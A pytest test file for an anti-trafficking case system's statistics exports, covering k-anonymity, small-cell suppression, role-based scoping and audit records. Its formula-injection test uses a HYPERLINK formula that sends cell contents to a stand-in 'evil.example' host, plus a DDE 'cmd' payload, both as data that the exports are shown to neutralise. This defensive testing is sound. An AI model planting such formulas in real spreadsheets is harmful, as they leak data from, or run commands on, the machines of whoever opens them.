"""Statistics exports (stats/exports.py): CTDC, UNODC GLOTIP and HTCDS, in CSV and XLSX.

Checked here: the columns are the standards' names; CTDC is k-anonymous, even on adversarial data;
GLOTIP shows "<11" and no suppressed cell can be recovered from the totals; HTCDS goes only to roles
with identity access, over their cases; CSV and XLSX are safe against formula injection and carry
the same rows; every export is recorded; every role gets exactly its scope.
"""

import csv
import datetime
import io
import json
import random
from collections import Counter, defaultdict
from pathlib import Path

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import include, path, reverse

from stats import exports
from stats.exports import (
    CTDC_COLUMNS,
    CTDC_QUASI_IDENTIFIERS,
    HTCDS_COLUMNS,
    HTCDS_EXTENSION_COLUMNS,
    export_file,
    k_anonymity_plan,
)
from stats.models import ExportRecord

from .conftest import log_case

# The browser view, reachable whether or not the lead has included stats.export_urls yet.
urlpatterns = [path("", include("stats.export_urls")), path("", include("glo_act.urls"))]

REFERENCE = Path(__file__).resolve().parents[2] / "shared" / "reference"
K = 11
YEAR = 2025

# The 27 variables of the CTDC codebook v2, written out independently of the code under test.
CTDC_27 = [
    "yearOfRegistration",
    "gender",
    "ageBroad",
    "citizenship",
    "CountryOfExploitation",
    "traffickMonths",
    "meansDebtBondageEarnings",
    "meansThreats",
    "meansAbusePsyPhySex",
    "meansFalsePromises",
    "meansDrugsAlcohol",
    "meansDenyBasicNeeds",
    "meansExcessiveWorkHours",
    "meansWithholdDocs",
    "isForcedLabour",
    "isSexualExploit",
    "isOtherExploit",
    "typeOfLabourAgriculture",
    "typeOfLabourConstruction",
    "typeOfLabourDomesticWork",
    "typeOfLabourHospitality",
    "typeOfSexProstitution",
    "typeOfSexPornography",
    "recruiterRelationIntimatePartner",
    "recruiterRelationFriend",
    "recruiterRelationFamily",
    "recruiterRelationOther",
]

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _day(i):
    return datetime.date(YEAR, 1 + i % 12, 1 + i % 27)


def add_cases(user, agency, n, *, age, gender, citizenship="AF", exploitation=("ForcedBegging",), start=0, **ident):
    cases = []
    for i in range(start, start + n):
        cases.append(
            log_case(
                user,
                agency,
                person={"gender": gender, "estimated_age": age, "citizenships": [citizenship],
                        "given_name": f"نام{i}", "given_name_latin": f"Name{i}"},
                identification={"identified_on": _day(i), "exploitation_types": list(exploitation), **ident},
            )
        )  # fmt: skip
    return cases


@pytest.fixture
def stats_world(world):
    """world, plus 2025 cases: in Iran (IR-NGO) two groups of 12 that reach k and five outliers that
    cannot; in Afghanistan (AF-NGO) 12 men in forced labour; plus one case each not counted."""
    w = world
    add_cases(
        w.cw,
        w.ir_ngo,
        12,
        age=14,
        gender="Masculine",
        methods_of_control=["DebtBondage", "PhysicalThreats"],
        relationship_to_recruiter="Familial",
    )
    add_cases(
        w.cw,
        w.ir_ngo,
        12,
        age=25,
        gender="Feminine",
        exploitation=["SexualExploitation"],
        sex_exploitation_types=["Prostitution"],
        start=100,
    )
    add_cases(w.cw, w.ir_ngo, 3, age=5, gender="Feminine", start=200)  # three small girls: a group of 3
    add_cases(w.cw, w.ir_ngo, 1, age=40, gender="Masculine", citizenship="PK", start=300)  # the only Pakistani
    add_cases(w.cw, w.ir_ngo, 1, age=19, gender="NonConforming", start=400)  # the only non-conforming person
    add_cases(
        w.cw_af,
        w.af_ngo,
        12,
        age=30,
        gender="Masculine",
        exploitation=["ForcedLabour"],
        forced_labour_industry="F_Construction",
        start=500,
    )
    # Not detected victims: screened only, and decided not a victim. Neither is counted.
    add_cases(w.cw, w.ir_ngo, 1, age=14, gender="Masculine", trafficking_status="Screened", start=600)
    add_cases(w.cw, w.ir_ngo, 1, age=14, gender="Masculine", trafficking_status="NotAVictimOfTrafficking",
              status_decided_by="NGO", start=700)  # fmt: skip
    return w


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def approved_request(user):
    """An approved identifying-export request of the user's first agency (the approval flow itself is
    tested in test_stats_export_requests.py); HTCDS is built only under one."""
    from stats.models import ExportRequest

    agency = user.memberships.first().agency
    return ExportRequest.objects.create(
        requested_by=user, agency=agency, format="csv", reason="tests", state=ExportRequest.State.APPROVED
    )


def run(user, kind, fmt="csv", **params):
    request = approved_request(user) if kind == "htcds" else None
    export = export_file(user, kind, fmt, params, approved_request=request)
    content = export.file.read()
    export.file.close()
    return export, content


def rows_of(user, kind, **params):
    export, content = run(user, kind, **params)
    rows = read_csv(content)
    return export, rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def assert_k_anonymous(rows, k=K):
    combos = Counter(tuple(r[q] for q in CTDC_QUASI_IDENTIFIERS) for r in rows)
    small = {c: n for c, n in combos.items() if n < k}
    assert not small, f"quasi-identifier combinations shared by fewer than {k} records: {small}"


# --- the standards' names -------------------------------------------------------------------------


def test_ctdc_columns_are_the_27_codebook_variables():
    assert CTDC_COLUMNS == CTDC_27
    assert len(set(CTDC_COLUMNS)) == 27


def test_ctdc_columns_are_those_of_domain_md():
    domain = REFERENCE / "domain.md"
    if not domain.exists():
        pytest.skip("shared/reference is not beside the checkout")
    text = domain.read_text()
    section = text[text.index("## 4.") : text.index("## 5.")]
    for name in CTDC_COLUMNS:
        if name.startswith(("typeOfLabour", "recruiterRelation")) and name not in section:
            # domain.md abbreviates siblings as `...Construction`: check the suffix instead.
            suffix = name.removeprefix("typeOfLabour").removeprefix("recruiterRelation")
            assert f"`...{suffix}`" in section, name
        else:
            assert f"`{name}`" in section, name


def test_htcds_columns_exist_in_the_standard():
    fields_file = REFERENCE / "htcds-v2-fields.json"
    if not fields_file.exists():
        pytest.skip("shared/reference is not beside the checkout")
    names = {f["name"] for f in json.loads(fields_file.read_text())["fields"]}
    standard = [c for c in HTCDS_COLUMNS if c not in HTCDS_EXTENSION_COLUMNS]
    missing = [c for c in standard if c not in names]
    assert not missing, f"not HTCDS v2 field names: {missing}"
    assert {"prs_FirstName", "prs_Gender", "prs_Citizenship", "vic_TraffickingStatus", "vic_TypeOfExploitation",
            "vic_MethodsOfControl", "vic_ForcedLabourIndustry", "cas_Status", "cas_CaseOwner"} <= set(standard)  # fmt: skip
    # Our own columns are few and marked as ours, never passed off as HTCDS.
    assert all(c.startswith("glo_") for c in HTCDS_EXTENSION_COLUMNS)
    assert not {c for c in HTCDS_COLUMNS if c.startswith("glo_")} - set(HTCDS_EXTENSION_COLUMNS)


# --- CTDC --------------------------------------------------------------------------------------------


def test_ctdc_is_k_anonymous_and_counts_what_it_withholds(stats_world):
    w = stats_world
    export, header, rows = rows_of(w.pm_region, "ctdc", date_from=f"{YEAR}-03-04", date_to=f"{YEAR}-10-01")
    assert header == CTDC_27
    assert_k_anonymous(rows)
    # Dates widen to whole years; 12 boys + 12 women in Iran, 12 men in Afghanistan published; the
    # 5 Iranian outliers cannot reach 11 even together and are withheld; screened and not-a-victim
    # cases are not counted at all.
    assert len(rows) == 36
    record = export.record
    assert (record.kind, record.format, record.user) == ("ctdc", "csv", w.pm_region)
    assert record.filters == {"date_from": f"{YEAR}-01-01", "date_to": f"{YEAR}-12-31"}
    assert (record.row_count, record.suppressed_count) == (36, 5)
    boys = [r for r in rows if r["gender"] == "Man" and r["ageBroad"] == "9-17"]
    assert len(boys) == 12
    assert {(r["citizenship"], r["CountryOfExploitation"], r["yearOfRegistration"]) for r in boys} == {
        ("AFG", "IRN", str(YEAR))
    }
    assert all(r["meansDebtBondageEarnings"] == "1" and r["meansThreats"] == "1" for r in boys)
    assert all(r["meansFalsePromises"] == "" and r["recruiterRelationFamily"] == "1" for r in boys)
    assert all(r["isOtherExploit"] == "1" and r["isForcedLabour"] == "" for r in boys)  # begging: other
    women = [r for r in rows if r["gender"] == "Woman"]
    assert len(women) == 12 and {r["ageBroad"] for r in women} == {"24-26"}
    assert all(r["isSexualExploit"] == "1" and r["typeOfSexProstitution"] == "1" for r in women)
    men_af = [r for r in rows if r["CountryOfExploitation"] == "AFG"]
    assert len(men_af) == 12
    assert all(r["typeOfLabourConstruction"] == "1" and r["isForcedLabour"] == "1" for r in men_af)
    assert all(r["traffickMonths"] == "" for r in rows)
    # Only 1 or empty in the flag columns.
    for r in rows:
        assert {r[c] for c in CTDC_27[6:]} <= {"1", ""}
    # Nothing identifying leaves: no names, no reference.
    flat = json.dumps(rows, ensure_ascii=False)
    for text in ["Name1", "نام1", "Reza", "رضا", "IR-"]:
        assert text not in flat


def test_ctdc_generalises_before_it_withholds(world):
    """Two groups of six girls (0-8 and 9-17) each fall short of 11, together as children they don't."""
    w = world
    add_cases(w.cw, w.ir_ngo, 6, age=5, gender="Feminine")
    add_cases(w.cw, w.ir_ngo, 6, age=12, gender="Feminine", start=50)
    add_cases(w.cw, w.ir_ngo, 1, age=12, gender="Feminine", citizenship="IQ", start=90)  # one Iraqi girl
    export, _header, rows = rows_of(w.pm_ir, "ctdc", date_from=f"{YEAR}-01-01", date_to=f"{YEAR}-12-31")
    assert_k_anonymous(rows)
    assert Counter(r["ageBroad"] for r in rows) == {"0-17": 12}
    # The Iraqi girl cannot hide among the Afghan girls as "IRQ", and with no other outlier to join
    # as "Other" she is withheld.
    assert Counter(r["citizenship"] for r in rows) == {"AFG": 12}
    assert export.record.suppressed_count == 1
    assert export.record.row_count + export.record.suppressed_count == 13


@pytest.mark.parametrize("seed", range(25))
def test_k_anonymity_plan_on_adversarial_counts(seed):
    """Random small, skewed partitions: every published combination covers at least k records, and
    every record is either published or counted as withheld."""
    rnd = random.Random(seed)
    k = rnd.choice([2, 3, 5, 11])
    genders = ["Man", "Woman", "Trans/Transgender/NonConforming", ""]
    bands = ["0-8", "9-17", "18-20", "21-23", "30-38", "48+", ""]
    cits = ["AFG", "IRN", "PAK", "IRQ", "IND", ""]
    counts = Counter()
    for _ in range(rnd.randint(1, 120)):
        quasi = (YEAR, rnd.choice(genders), rnd.choice(bands), rnd.choice(cits), rnd.choice(["IRN", "AFG"]))
        counts[quasi] += rnd.choice([1, 1, 1, 2, 3, 15])
    plan = k_anonymity_plan(counts, k)
    assert set(plan) == set(counts)
    published = Counter()
    for quasi, n in counts.items():
        if plan[quasi] is not None:
            published[plan[quasi]] += n
    assert all(n >= k for n in published.values()), published
    # A group already at k is never generalised or withheld.
    assert all(plan[q] == q for q, n in counts.items() if n >= k)


def test_ctdc_xlsx_has_the_same_rows_and_no_formula(stats_world):
    from openpyxl import load_workbook

    w = stats_world
    _e, csv_content = run(w.pm_region, "ctdc", "csv")
    export, xlsx_content = run(w.pm_region, "ctdc", "xlsx")
    # Without a year filter the three world cases of this year, each alone in its partition, are withheld too.
    assert export.record.format == "xlsx" and export.record.suppressed_count == 5 + 3
    sheet = load_workbook(io.BytesIO(xlsx_content)).active
    xlsx_rows = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert xlsx_rows == read_csv(csv_content)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# --- GLOTIP ------------------------------------------------------------------------------------------


def _glotip_tables(rows):
    tables = defaultdict(dict)
    for r in rows:
        key = (r["Citizenship"], r["Sex"], r["AgeGroup"])
        tables[(r["Year"], r["Country"])][(key, r["FormOfExploitation"])] = r["DetectedVictims"]
    return tables


def assert_no_cell_recoverable(table):
    """In every row and column of a (country, year) table, with its total, either nothing is
    suppressed or at least two figures are: one alone could be computed back from the others."""
    total_key = ("Total", "Total", "Total")
    row_keys = {r for r, _c in table if r != total_key}
    cols = {c for _r, c in table if c != "Total"}
    lines = [[(r, c) for c in [*cols, "Total"]] for r in row_keys]
    lines += [[(r, c) for r in [*row_keys, total_key]] for c in cols]
    lines.append([(total_key, c) for c in [*cols, "Total"]])
    for line in lines:
        hidden = [key for key in line if table[key] == f"<{K}"]
        assert len(hidden) != 1, f"{hidden[0]} can be recovered from its row or column"
        shown = [int(table[key]) for key in line if table[key] != f"<{K}"]
        assert all(n == 0 or n >= K for n in shown), line


def test_glotip_suppresses_small_cells_and_their_complements(stats_world):
    w = stats_world
    export, header, rows = rows_of(w.pm_region, "glotip", date_from=f"{YEAR}-01-01", date_to=f"{YEAR}-12-31")
    assert header == ["Year", "Country", "Citizenship", "Sex", "AgeGroup", "FormOfExploitation", "DetectedVictims"]
    values = [r["DetectedVictims"] for r in rows]
    assert "<11" in values
    assert all(v == "<11" or (v.isdigit() and (int(v) == 0 or int(v) >= K)) for v in values)
    tables = _glotip_tables(rows)
    assert set(tables) == {(str(YEAR), "IRN"), (str(YEAR), "AFG")}
    for table in tables.values():
        assert_no_cell_recoverable(table)
    ir = tables[(str(YEAR), "IRN")]
    # The boys' 12 (begging: other purposes) may itself be hidden as a complement: the three small
    # cells of that column hold only 5 people, so hiding them alone would still reveal "5".
    assert ir[(("AFG", "Male", "0-17"), "Other purposes")] in {"12", "<11"}
    assert ir[(("AFG", "Female", "18+"), "Sexual exploitation")] == "12"
    assert ir[(("PAK", "Male", "18+"), "Other purposes")] == "<11"
    af = tables[(str(YEAR), "AFG")]
    assert af[(("AFG", "Male", "18+"), "Forced labour")] == "12"
    assert export.record.suppressed_count == sum(v == "<11" for v in values) > 0
    assert export.record.row_count == len(rows)


def test_glotip_form_grouping():
    assert exports.glotip_form({"ForcedCriminality"}) == "Other purposes"
    assert exports.glotip_form({"ForcedBegging", "ForcedMarriage"}) == "Other purposes"
    assert exports.glotip_form({"ChildLabour"}) == "Forced labour"
    assert exports.glotip_form({"SexualExploitation", "ForcedLabour"}) == "Other purposes"  # mixed
    assert exports.glotip_form(set()) == "Not recorded"


def test_glotip_xlsx_shows_the_same_suppressed_table(stats_world):
    from openpyxl import load_workbook

    w = stats_world
    _e, csv_content = run(w.pm_region, "glotip", "csv")
    _e, xlsx_content = run(w.pm_region, "glotip", "xlsx")
    sheet = load_workbook(io.BytesIO(xlsx_content)).active
    xlsx_rows = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert xlsx_rows == read_csv(csv_content)


# --- HTCDS -------------------------------------------------------------------------------------------


def test_htcds_for_identity_roles_with_names_and_standard_codes(stats_world):
    w = stats_world
    export, header, rows = rows_of(w.cw, "htcds")
    assert header == HTCDS_COLUMNS
    own = w.ir_ngo.cases.count()
    assert len(rows) == own == export.record.row_count  # every case of the agency, screened ones too
    assert {r["org_Name"] for r in rows} == {w.ir_ngo.name}
    reza = next(r for r in rows if r["glo_CaseReference"] == w.case_ir.reference)
    assert (reza["prs_FirstName"], reza["prs_SecondName"]) == ("رضا", "احمدی")
    assert reza["prs_Gender"] == "Masculine" and reza["prs_Citizenship"] == "AF"
    assert reza["vic_TraffickingStatus"] == "PossibleVictimOfTrafficking"
    assert reza["cas_Status"] == "Active" and reza["cas_CaseOwner"] == "IR-NGO/cw"
    assert reza["org_Type"] == "NGO" and reza["hte_Country"] == "IR"
    boy = next(r for r in rows if r["prs_FirstName"] == "نام0")
    assert boy["vic_MethodsOfControl"] == "PhysicalThreats;DebtBondage"
    assert boy["vic_RelationshipToTrafficker"] == "Familial"
    screened = next(r for r in rows if r["prs_FirstName"] == "نام600")
    assert screened["vic_TraffickingStatus"] == ""  # our Screened stage is not an HTCDS value


def test_htcds_exports_forced_criminality_as_other(world):
    w = world
    log_case(w.cw, w.ir_ngo, identification={"exploitation_types": ["ForcedCriminality", "ForcedLabour"],
                                             "forced_labour_industry": "A_AgricultureForestryAndFishing"})  # fmt: skip
    _e, _h, rows = rows_of(w.cw, "htcds")
    types = {r["vic_TypeOfExploitation"] for r in rows}
    assert "ForcedLabour;Other" in types
    assert not any("ForcedCriminality" in t for t in types)
    htcds = json.loads((REFERENCE / "htcds-v2-fields.json").read_text()) if REFERENCE.exists() else None
    if htcds:
        allowed = {v["name"] for f in htcds["fields"] if f["name"] == "vic_TypeOfExploitation" for v in f["values"]}
        assert all(set(t.split(";")) <= allowed for t in types if t)


def test_htcds_refused_without_identity_access(stats_world):
    w = stats_world
    for user in [w.pm_ir, w.pm_region, w.auditor_ir, w.sp_ir, w.nobody, w.admin_user]:
        with pytest.raises(PermissionDenied):
            export_file(user, "htcds", "csv", {})
        record = ExportRecord.objects.filter(user=user).latest("id")
        assert (record.kind, record.row_count, record.outcome, record.reason) == ("htcds", 0, "refused", "role")


def test_htcds_scoped_to_cases_seen_with_identity(stats_world):
    from cases.services import case_share

    w = stats_world
    _e, _h, rows = rows_of(w.cw_af, "htcds")
    assert {r["org_Name"] for r in rows} == {w.af_ngo.name} and len(rows) == w.af_ngo.cases.count()
    # Another agency (even in the same country) is outside: the filter gives nothing, never data.
    _e, _h, rows = rows_of(w.cw, "htcds", agency=str(w.ir_police.id))
    assert rows == []
    _e, _h, rows = rows_of(w.cw, "htcds", country="AF")
    assert rows == []
    # A case shared with identity reaches the receiving caseworker; one shared without does not.
    from .conftest import fresh

    pseudonymous = log_case(w.cw, w.ir_ngo)
    case_share(user=w.sup, case=w.case_ir, agency=w.af_ngo, include_identity=True)
    case_share(user=w.sup, case=pseudonymous, agency=w.af_ngo, include_identity=False)
    _e, _h, rows = rows_of(fresh(w.cw_af), "htcds")
    references = {r["glo_CaseReference"] for r in rows}
    assert w.case_ir.reference in references and pseudonymous.reference not in references


def test_htcds_filters(stats_world):
    w = stats_world
    _e, _h, rows = rows_of(w.cw, "htcds", exploitation_type="SexualExploitation")
    assert len(rows) == 12
    _e, _h, rows = rows_of(w.cw, "htcds", date_from=f"{YEAR}-01-01", date_to=f"{YEAR}-01-31")
    assert {r["hte_Date"][:7] for r in rows} == {f"{YEAR}-01"} and rows


# --- formula injection, encoding ------------------------------------------------------------------


def test_csv_and_xlsx_neutralise_formulas(world):
    from openpyxl import load_workbook

    w = world
    log_case(w.cw, w.ir_ngo, person={"given_name": INJECTION, "family_name": "+1-2", "given_name_latin": "@SUM(A1)"},
             identification={"narrative": "\t=cmd|' /C calc'!A0", "place": "-3+4"})  # fmt: skip
    _e, content = run(w.cw, "htcds", "csv")
    rows = read_csv(content)
    data = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    victim = next(r for r in data if "HYPERLINK" in r["prs_FirstName"])
    assert victim["prs_FirstName"] == "'" + INJECTION
    assert victim["prs_SecondName"] == "'+1-2"
    assert victim["hte_Description"] == "'\t=cmd|' /C calc'!A0"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Persian survives, and Excel recognises UTF-8 by the BOM.
    assert "رضا" in content.decode("utf-8-sig")

    _e, xlsx = run(w.cw, "htcds", "xlsx")
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + INJECTION in {cell.value for cell in cells}
    assert [["" if v is None else str(v) for v in r] for r in sheet.iter_rows(values_only=True)] == rows


def test_safe_text():
    for dangerous in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"]:
        assert exports.safe_text(dangerous) == "'" + dangerous
    assert exports.safe_text("0-8") == "0-8"
    assert exports.safe_text(12) == 12
    assert exports.safe_text(None) == ""


# --- scoping per role ------------------------------------------------------------------------------


def test_country_manager_gets_only_their_country(stats_world):
    w = stats_world
    _e, _h, rows = rows_of(w.pm_ir, "ctdc")
    assert rows and {r["CountryOfExploitation"] for r in rows} == {"IRN"}
    _e, _h, region = rows_of(w.pm_region, "ctdc")
    assert {r["CountryOfExploitation"] for r in region} == {"IRN", "AFG"}
    # Asking for a country outside the scope yields nothing, and is recorded.
    export, _h, rows = rows_of(w.pm_ir, "ctdc", country="AF")
    assert rows == [] and export.record.filters == {"country": "AF"} and export.record.row_count == 0
    export, _h, rows = rows_of(w.pm_ir, "glotip", country="AF")
    assert rows == []
    _e, _h, rows = rows_of(w.auditor_ir, "glotip")
    assert rows and {r["Country"] for r in rows} == {"IRN"}


def test_supervisor_gets_only_their_agency(stats_world):
    w = stats_world
    from stats.exports import ExportFilters, scoped_cases

    cases = set(scoped_cases(w.sup, "ctdc", ExportFilters()).values_list("agency_id", flat=True))
    assert cases == {w.ir_ngo.id}  # not IR-POL's case in the same country
    _e, _h, rows = rows_of(w.sup, "ctdc")
    assert_k_anonymous(rows)
    assert len(rows) == 24


@pytest.mark.parametrize("role", ["cw", "cw_af", "sp_ir", "focal_ir", "nobody", "admin_user"])
@pytest.mark.parametrize("kind", ["ctdc", "glotip"])
def test_roles_without_statistics_scope_are_refused(stats_world, role, kind):
    """Caseworkers (and service providers, focal points, administrators) do not export statistics:
    a caseworker already works on the agency's cases, and publishing is for managers."""
    user = getattr(stats_world, role)
    with pytest.raises(PermissionDenied):
        export_file(user, kind, "csv", {"country": "IR"})
    record = ExportRecord.objects.get(user=user)
    assert record.kind == kind and record.filters == {"country": "IR"}
    assert (record.outcome, record.reason) == ("refused", "role")


def test_deidentified_exports_refuse_filters_that_allow_differencing(stats_world):
    w = stats_world
    for params in [{"agency": str(w.ir_ngo.id)}, {"exploitation_type": "ForcedBegging"}]:
        with pytest.raises(ValidationError):
            export_file(w.pm_ir, "ctdc", "csv", params)
    with pytest.raises(ValidationError):
        export_file(w.pm_ir, "glotip", "csv", {"date_from": "2025-13-01"})
    with pytest.raises(ValidationError):
        export_file(w.pm_ir, "glotip", "csv", {"country": "XX"})
    records = list(ExportRecord.objects.filter(user=w.pm_ir).order_by("id"))
    assert [r.outcome for r in records] == ["invalid"] * 4 and all(r.row_count == 0 for r in records)
    assert "agency" in records[0].reason and records[3].filters == {"country": "XX"}


# --- the browser view ------------------------------------------------------------------------------


@pytest.mark.urls(__name__)
def test_download_view(client, stats_world):
    w = stats_world
    url = reverse("stats_export", kwargs={"kind": "glotip", "format": "csv"})
    assert url == "/stats/exports/glotip.csv"
    client.force_login(w.pm_ir)
    response = client.get(url, {"date_from": f"{YEAR}-01-01"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="glo_act-glotip-')
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Type"].startswith("text/csv")
    assert b"<11" in b"".join(response.streaming_content)
    record = ExportRecord.objects.get(user=w.pm_ir)
    assert record.kind == "glotip" and record.filters == {"date_from": f"{YEAR}-01-01"}
    assert record.outcome == "delivered" and record.row_count > 0 and record.reason == ""

    response = client.get(reverse("stats_export", kwargs={"kind": "ctdc", "format": "xlsx"}))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert client.post(url).status_code == 405
    assert client.get(url, {"agency": "1"}).status_code == 400
    assert client.get("/stats/exports/secret.csv").status_code == 404
    assert client.get("/stats/exports/ctdc.pdf").status_code == 404


@pytest.mark.urls(__name__)
def test_download_view_refuses(client, stats_world):
    w = stats_world
    url = reverse("stats_export", kwargs={"kind": "htcds", "format": "csv"})
    response = client.get(url)
    assert response.status_code == 302 and "login" in response["Location"]  # anonymous
    assert not ExportRecord.objects.exists()
    client.force_login(w.pm_region)
    assert client.get(url).status_code == 403
    record = ExportRecord.objects.get(user=w.pm_region)
    assert (record.filters, record.outcome, record.reason) == ({}, "refused", "role")
    # Even a caseworker who may see the names gets no direct download: it needs an approved request.
    client.force_login(w.cw)
    response = client.get(url)
    assert response.status_code == 403 and "رضا".encode() not in response.content
    record = ExportRecord.objects.get(user=w.cw)
    assert record.outcome == "refused" and record.reason.startswith("approval required")


def test_record_level_xlsx_above_the_limit_is_refused_in_favour_of_csv(stats_world, settings):
    w = stats_world
    settings.EXPORT_XLSX_MAX_ROWS = 5
    with pytest.raises(ValidationError) as refused:
        export_file(w.pm_ir, "ctdc", "xlsx", {})
    assert "choose CSV" in str(refused.value)
    record = ExportRecord.objects.filter(user=w.pm_ir).latest("id")
    assert (record.outcome, record.row_count) == ("invalid", 0) and record.reason.startswith("format:")
    export, _content = run(w.pm_ir, "ctdc", "csv")
    assert export.record.row_count > 5  # the same rows as CSV
    _export, _content = run(w.pm_ir, "glotip", "xlsx")  # aggregated: never many rows


@pytest.mark.parametrize(("who", "linked"), [("cw", True), ("sup", True), ("pm_ir", False), ("auditor_ir", False)])
def test_the_navigation_leads_case_staff_to_identifying_exports(client, world, who, linked):
    client.force_login(getattr(world, who))
    page = client.get("/").content.decode()
    assert ('href="/stats/exports/requests/"' in page) is linked
